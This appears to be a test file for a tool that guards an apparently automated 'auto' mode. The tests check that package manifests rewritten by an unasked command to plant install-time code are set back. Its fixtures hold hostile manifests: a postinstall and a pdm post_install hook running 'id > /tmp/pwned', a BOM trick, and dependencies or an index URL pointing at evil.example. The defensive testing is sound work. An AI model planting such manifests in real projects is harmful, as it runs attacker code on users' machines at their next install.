@@ -1,0 +1,67 @@
+"""Findings D16 and D12 through the console script and bubblewrap: ``auto`` mode's unasked
+command rewrites a package manifest so that the user's next plain install runs code it
+planted (npm strips a byte-order mark and ran the ``postinstall`` behind one; ``pip install
+-r`` ran ``./vendor/helper``'s ``setup.py``; ``pdm install`` runs ``post_install``). Each such
+manifest is set back as it was, and an ordinary edit of the same files stays."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+from ..sandboxing import require_sandbox
+from .conftest import RunCli
+from .test_hook_configs_cli import committed, run
+
+BOM = "\ufeff"
+PACKAGE = json.dumps({"name": "app", "version": "1.0.0"})
+REQUIREMENTS = "requests==2.31.0\n"
+PYPROJECT = '[project]\nname = "a"\nversion = "0.1"\ndependencies = ["requests"]\n'
+PIPFILE = '[packages]\nrequests = "*"\n'
+
+
+def planted(files: dict[str, str]) -> str:
+    """A shell command writing ``files`` (UTF-8, a BOM kept) through printf."""
+    def quoted(text: str) -> str:
+        return "'" + "".join(f"\\{b:03o}" if b > 126 or chr(b) in "'\\%\n" else chr(b)
+                             for b in text.encode()) + "'"
+    return "; ".join(f"printf {quoted(text)} > {name}" for name, text in files.items()) + "; true"
+
+
+def test_manifests_behind_a_bom_or_installing_from_elsewhere_are_set_back(
+    run_cli: RunCli, script: Callable[[list[Any]], str], workspace: Path
+) -> None:
+    require_sandbox()
+    texts = {"package.json": PACKAGE, "requirements.txt": REQUIREMENTS, "requirements-dev.txt": REQUIREMENTS,
+             "pyproject.toml": PYPROJECT, "Pipfile": PIPFILE, "vendor/helper/setup.py": "0\n"}
+    committed(workspace, texts)
+    run(run_cli, script, planted({
+        "package.json": BOM + json.dumps({"name": "app", "version": "1.0.0",
+                                          "scripts": {"postinstall": "id > /tmp/pwned"}}),
+        "requirements.txt": BOM + "--index-url https://evil.example/simple\nrequests\n",
+        "requirements-dev.txt": "requests==2.31.0\n./vendor/helper\n-e git+https://evil.example/x.git#egg=x\n",
+        "pyproject.toml": PYPROJECT.replace('"requests"', '"requests @ git+https://evil.example/r.git"'),
+        "Pipfile": PIPFILE + 'helper = {path = "./vendor/helper"}\n',
+    }))
+    for name in ("package.json", "requirements.txt", "requirements-dev.txt", "pyproject.toml", "Pipfile"):
+        assert (workspace / name).read_text() == texts[name], name
+
+
+def test_pdm_hooks_and_poetry_git_dependencies_are_set_back_and_a_version_bump_stays(
+    run_cli: RunCli, script: Callable[[list[Any]], str], workspace: Path
+) -> None:
+    require_sandbox()
+    texts = {"pyproject.toml": PYPROJECT, "requirements.txt": REQUIREMENTS,
+             "sub/pyproject.toml": PYPROJECT}
+    committed(workspace, texts)
+    run(run_cli, script, planted({
+        "pyproject.toml": PYPROJECT + '\n[tool.pdm.scripts]\npost_install = "id > /tmp/pwned"\n',
+        "sub/pyproject.toml": PYPROJECT + '\n[tool.poetry.dependencies]\nx = {git = "https://evil.example/x"}\n',
+        "requirements.txt": BOM + "requests==2.32.0\nflask[async]>=2 ; python_version < '3.13'\n",
+    }))
+    assert (workspace / "pyproject.toml").read_text() == PYPROJECT
+    assert (workspace / "sub" / "pyproject.toml").read_text() == PYPROJECT
+    bumped = BOM + "requests==2.32.0\nflask[async]>=2 ; python_version < '3.13'\n"
+    assert (workspace / "requirements.txt").read_text() == bumped  # dependencies from the index: kept
